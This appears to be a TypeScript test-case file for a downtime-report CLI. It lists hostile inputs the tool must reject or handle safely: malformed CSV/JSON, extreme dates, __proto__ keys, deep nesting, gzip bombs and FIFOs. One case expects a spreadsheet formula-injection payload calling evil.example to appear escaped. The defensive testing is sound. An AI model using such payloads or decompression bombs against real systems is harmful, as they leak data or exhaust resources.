import { chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join, resolve } from 'node:path';
import { expect } from 'vitest';
import type { ReportJson } from '../../core/print/month-json';
import { diagnosedLines, expectAllFinite, monthRow } from './report-lookup';
import { parseCsv } from './parse-csv';
import { writeGzipBomb } from './gzip-bomb';

export const FIXTURES = resolve(__dirname, '../fixtures/hostile');

/**
 * One hostile input and what the CLI must do with it (issue 6): exit 1 with one line on stderr naming the
 * file and matching `error`, or exit 0 with a report that passes `report` (JSON) or `csv` (CSV text).
 * A case with both `error` and `report` is one where the SPEC allows either (it says nothing about it).
 */
export interface HostileCase {
  name: string;
  /** creates the input in an empty directory and returns the path to give the CLI */
  make(dir: string): string;
  args?: string[];
  error?: RegExp;
  report?: (json: ReportJson) => void;
  csv?: (text: string) => void;
  /** why the case cannot run here */
  skip?: string | false;
}

function fixture(name: string): (dir: string) => string {
  return (dir) => {
    const path = join(dir, name);
    copyFileSync(join(FIXTURES, name), path);
    return path;
  };
}

function generated(name: string, content: string | Buffer): (dir: string) => string {
  return (dir) => {
    const path = join(dir, name);
    writeFileSync(path, content);
    return path;
  };
}

const isRoot = process.getuid?.() === 0;

export const CASES: HostileCase[] = [
  { name: 'empty.csv', make: fixture('empty.csv'), error: /empty|no data|0 bytes/i },
  {
    name: 'header-only.csv',
    make: fixture('header-only.csv'),
    error: /no (data )?rows|no records|only a header|no data/i,
  },
  { name: 'image.png', make: fixture('image.png'), error: /binary|not (a )?text|image/i },
  { name: 'utf16le-bom.csv', make: fixture('utf16le-bom.csv'), error: /UTF-16/i },
  { name: 'utf16be-bom.csv', make: fixture('utf16be-bom.csv'), error: /UTF-16/i },
  {
    name: 'unclosed-quote.csv',
    make: fixture('unclosed-quote.csv'),
    // the quote opened on line 3 swallows the rest of the file: one broken row, named by its first line
    error: /line 3\b.*quote|quote.*line 3\b/i,
    report: (json) => {
      expect(json.source.records).toBeGreaterThanOrEqual(1);
      expect(json.diagnostics.some((d) => d.line === 3 && /quote/i.test(d.message))).toBe(true);
    },
  },
  {
    name: 'mixed-delimiters.csv',
    make: fixture('mixed-delimiters.csv'),
    report: (json) => {
      expect(diagnosedLines(json)).toEqual(expect.arrayContaining([3, 4]));
      expect(json.source.records).toBe(2);
      // lines 2 and 5: 60 + 30 minutes
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(90);
    },
  },
  {
    name: 'invalid-dates.csv',
    make: fixture('invalid-dates.csv'),
    report: (json) => {
      expect(diagnosedLines(json)).toEqual(expect.arrayContaining([3, 4, 5, 6, 7]));
      expect(json.source.records).toBe(2);
      expect(json.source.skipped).toBe(5);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(90);
    },
  },
  {
    name: 'end-before-start.csv',
    make: fixture('end-before-start.csv'),
    report: (json) => {
      // SPEC 1: end < start is rejected with a diagnostic; end == start is kept with no downtime
      expect(diagnosedLines(json)).toContain(3);
      expect(json.source.records).toBe(2);
      expect(json.source.skipped).toBe(1);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(60);
    },
  },
  {
    name: 'year-0001.csv',
    make: fixture('year-0001.csv'),
    report: (json) => {
      // JS Date.UTC(1, 0) is 1901: the months must still be year 1 of the proleptic Gregorian calendar
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['0001-01', '0001-02']);
      const jan = monthRow(json, 'api', '0001-01');
      expect(jan.periodMinutes).toBe(31 * 1440);
      expect(jan.downtimeMinutes).toBe(60);
      const feb = monthRow(json, 'api', '0001-02');
      expect(feb.periodMinutes).toBe(28 * 1440); // year 1 is not a leap year
      expect(feb.downtimeMinutes).toBe(30);
    },
  },
  {
    name: 'year-9999.csv',
    make: fixture('year-9999.csv'),
    report: (json) => {
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['9999-11', '9999-12']);
      expect(monthRow(json, 'api', '9999-11').downtimeMinutes).toBe(30);
      // 22:00:00 .. 23:59:59 = 119 min 59 s
      expect(monthRow(json, 'api', '9999-12').downtimeMinutes).toBeCloseTo(119 + 59 / 60, 9);
    },
  },
  {
    name: 'years-0001-to-9999.csv',
    make: fixture('years-0001-to-9999.csv'),
    // 9999 years are 119,988 months per service: refusing with a clear message is as good as a report
    error: /range|months|years|too (long|many|large)/i,
    report: (json) => {
      expect(json.months.length).toBe(2 * 9999 * 12);
      expect(monthRow(json, 'api', '0001-01').downtimeMinutes).toBe(60);
      expect(monthRow(json, 'api', '9999-12').downtimeMinutes).toBe(60);
    },
  },
  {
    name: 'leap-second.csv',
    make: fixture('leap-second.csv'),
    report: (json) => {
      // 23:59:60 is either read as the next midnight (the first row lasts 60 min, its end on the month
      // boundary belongs to December, SPEC 4) or rejected with a diagnostic naming line 2
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['2016-12']);
      const dec = monthRow(json, 'api', '2016-12');
      if (diagnosedLines(json).includes(2)) expect(dec.downtimeMinutes).toBe(30);
      else expect(dec.downtimeMinutes).toBe(90);
    },
  },
  {
    name: 'dst-gap-overlap.csv',
    make: fixture('dst-gap-overlap.csv'),
    args: ['--input-tz', 'America/New_York'],
    report: (json) => {
      // gap: 01:30 EST = 06:30Z; 02:30 does not exist and is read with the offset before the gap (-5 h),
      // i.e. 07:30Z = 03:30 EDT: 60 min. Overlap: 00:30 EDT = 04:30Z; 01:30 happens twice, the earlier
      // (EDT, 05:30Z) is taken: 60 min. (core/time/zone-clock.ts, Temporal's "compatible".)
      expect(monthRow(json, 'gap', '2024-03').downtimeMinutes).toBe(60);
      expect(monthRow(json, 'overlap', '2024-11').downtimeMinutes).toBe(60);
    },
  },
  {
    name: 'affected-out-of-range.csv',
    make: fixture('affected-out-of-range.csv'),
    report: (json) => {
      // SPEC 1: affected is in (0,1]; NaN, Infinity, -0.5, 150 %, -Infinity and 1e999 are not
      expect(diagnosedLines(json)).toEqual(expect.arrayContaining([3, 4, 5, 6, 7, 8]));
      expectAllFinite(json);
    },
  },
  {
    name: 'digits-400.csv',
    make: fixture('digits-400.csv'),
    report: (json) => {
      // line 4: a 400-digit affected share (Infinity as a double); lines 5, 6: 400-digit timestamps
      expect(diagnosedLines(json)).toEqual(expect.arrayContaining([4, 5, 6]));
      expectAllFinite(json);
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['2024-01']);
    },
  },
  {
    name: 'digits-400-duration.csv',
    make: fixture('digits-400-duration.csv'),
    report: (json) => {
      // a 400-digit duration is Infinity minutes: kept, it would stretch the report range without end
      expect(diagnosedLines(json)).toContain(3);
      expectAllFinite(json);
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['2024-01']);
    },
  },
  {
    name: 'proto-keys.json',
    make: fixture('proto-keys.json'),
    report: (json) => {
      expect(json.source.records).toBe(2);
      // the start inside "__proto__" must not leak into the rows: nothing in 1999
      expect([...new Set(json.months.map((m) => m.month))]).toEqual(['2024-01']);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(90);
    },
  },
  {
    name: 'proto-keys.ndjson',
    make: fixture('proto-keys.ndjson'),
    report: (json) => {
      expect(json.source.records).toBe(2);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(120);
    },
  },
  {
    name: 'proto-wrapper.json',
    make: fixture('proto-wrapper.json'),
    report: (json) => {
      // Statuspage shape: one record per component, the components are named __proto__ and constructor
      for (const service of ['__proto__', 'constructor']) {
        const row = monthRow(json, service, '2024-01');
        expect(row.downtimeMinutes).toBe(60);
        expect(row.target).toBe(0.999);
      }
    },
  },
  {
    name: 'reserved-names.csv',
    make: fixture('reserved-names.csv'),
    // a user base, and one for a service named "constructor": per-service lookups must not read the prototype
    args: ['--users', '2B', '--users', 'hasOwnProperty=2B'],
    report: (json) => {
      // names that exist on Object.prototype must be plain names: default target, severity weights
      for (const service of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
        const row = monthRow(json, service, '2024-01');
        expect(row.target).toBe(0.999);
        expect(row.downtimeMinutes).toBe(60);
        expect(row.userMinutesLost).toBe(60 * 2_000_000_000); // major: f(r) = 1, 2B users
      }
      const partial = monthRow(json, 'valueOf', '2024-01');
      expect(partial.downtimeMinutes).toBeCloseTo(0.3 * 60, 9);
      expect(partial.userMinutesLost).toBeCloseTo(0.3 * 60 * 2_000_000_000, 0);
      expectAllFinite(json);
    },
  },
  {
    name: 'formula-titles.csv',
    make: fixture('formula-titles.csv'),
    args: ['--format', 'csv'],
    csv: (text) => {
      const rows = parseCsv(text);
      const cells = rows.flat();
      for (const cell of cells) {
        if (cell === '' || Number.isFinite(Number(cell))) continue; // numbers, negative budgets included
        expect(cell, 'a spreadsheet would run this cell').not.toMatch(/^[=+\-@\t\r]/);
      }
      // the service cell holds a comma, so it lists two services (SPEC 1): its first is still a formula, escaped
      expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1`);
      expect(cells).toContain(`"click")`);
      expect(cells).toContain(`'+SUM(1+1)`);
      expect(cells).toContain(`'-2+3`);
      expect(cells).toContain(`'@evil`);
    },
  },

  // generated at test time: too big to commit, or not files at all
  {
    name: 'columns-100k.csv',
    make: generated(
      'columns-100k.csv',
      ['start', 'end', 'service', ...Array.from({ length: 99_997 }, (_, i) => `c${i}`)].join(',') +
        '\n' +
        ['2024-01-01T00:00:00Z', '2024-01-01T01:00:00Z', 'api', ...Array.from({ length: 99_997 }, (_, i) => i)].join(
          ',',
        ) +
        '\n',
    ),
    error: /column|field|wide/i,
    report: (json) => {
      expect(json.source.records).toBe(1);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(60);
    },
  },
  {
    name: 'line-10mb.csv',
    make: generated('line-10mb.csv', 'x'.repeat(10 * 1024 * 1024)),
    error: /column|header|start|timestamp|no (data )?rows|line|long/i,
  },
  {
    name: 'title-10mb.csv',
    make: generated(
      'title-10mb.csv',
      `start,end,service,title\n2024-01-01T00:00:00Z,2024-01-01T01:00:00Z,api,"${'x'.repeat(10 * 1024 * 1024)}"\n`,
    ),
    error: /line 2\b/i,
    report: (json) => {
      expect(json.source.records).toBe(1);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(60);
    },
  },
  {
    name: 'huge-cells.csv',
    make: generated(
      'huge-cells.csv',
      'start,end,service,severity\n' +
        `2024-01-01T00:00:00Z,${'9'.repeat(5 * 1024 * 1024)},api,major\n` +
        `2024-01-02T00:00:00Z,2024-01-02T01:00:00Z,api,${'z'.repeat(5 * 1024 * 1024)}\n` +
        '2024-01-03T00:00:00Z,2024-01-03T00:30:00Z,api,major\n',
    ),
    report: (json) => {
      // line 2: a 5 MB end; line 3: a 5 MB severity word (unknown: counted as major, named once)
      expect(diagnosedLines(json)).toEqual(expect.arrayContaining([2, 3]));
      for (const d of json.diagnostics) expect(d.message.length, `line ${d.line}`).toBeLessThanOrEqual(1000);
      expect(monthRow(json, 'api', '2024-01').downtimeMinutes).toBe(90);
    },
  },
  {
    name: 'nested-arrays-100k.json',
    make: generated('nested-arrays-100k.json', '['.repeat(100_000) + ']'.repeat(100_000)),
    error: /^(?!.*call stack).*(JSON|array|record|rows|nest|deep)/i,
  },
  {
    name: 'nested-objects-100k.json',
    make: generated('nested-objects-100k.json', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)),
    error: /^(?!.*call stack).*(JSON|array|record|rows|nest|deep)/i,
  },
  {
    name: 'zeros-bomb.csv.gz',
    make: (dir) => {
      // 10 GiB of zeros in ~10 MB
      const path = join(dir, 'zeros-bomb.csv.gz');
      writeGzipBomb(path, '', Buffer.alloc(1), 10 * 1024 ** 3);
      return path;
    },
    error: /binary|not (a )?text|gzip|compress|expand|bomb|too large|ratio/i,
  },
  {
    name: 'rows-bomb.csv.gz',
    make: (dir) => {
      // a valid interval log repeating one row: ~3.4 GB of CSV (70 million records) in ~10 MB
      const path = join(dir, 'rows-bomb.csv.gz');
      writeGzipBomb(
        path,
        'start,end,service\n',
        Buffer.from('2024-01-01T00:00:00Z,2024-01-01T00:01:00Z,api\n'),
        52 * 64 * 1024 ** 2,
      );
      return path;
    },
    error: /gzip|compress|expand|bomb|too large|ratio/i,
  },
  {
    name: 'a directory',
    make: (dir) => {
      const path = join(dir, 'logs.csv');
      mkdirSync(path);
      return path;
    },
    error: /directory|folder|not a (regular )?file/i,
  },
  {
    name: 'a FIFO',
    make: (dir) => {
      // opening a FIFO for reading blocks until a writer comes: the CLI must refuse it before opening
      const path = join(dir, 'pipe.csv');
      execFileSync('mkfifo', [path]);
      return path;
    },
    error: /FIFO|pipe|not a (regular )?file/i,
  },
  {
    name: 'a missing file',
    make: (dir) => join(dir, 'missing.csv'),
    error: /not found|no such file|does not exist/i,
  },
  {
    name: 'an unreadable file',
    make: (dir) => {
      const path = join(dir, 'locked.csv');
      copyFileSync(join(FIXTURES, 'end-before-start.csv'), path);
      chmodSync(path, 0o000);
      return path;
    },
    error: /permission|denied|cannot read|not readable/i,
    skip: isRoot && 'running as root: chmod 000 does not stop root from reading (see "a path under a file")',
  },
  {
    name: 'a path under a file',
    make: (dir) => {
      // ENOTDIR: the parent is a regular file, which stops root as well
      writeFileSync(join(dir, 'notadir'), 'x');
      return join(dir, 'notadir', 'log.csv');
    },
    error: /not a directory|not found|no such file|does not exist|cannot read/i,
  },
];
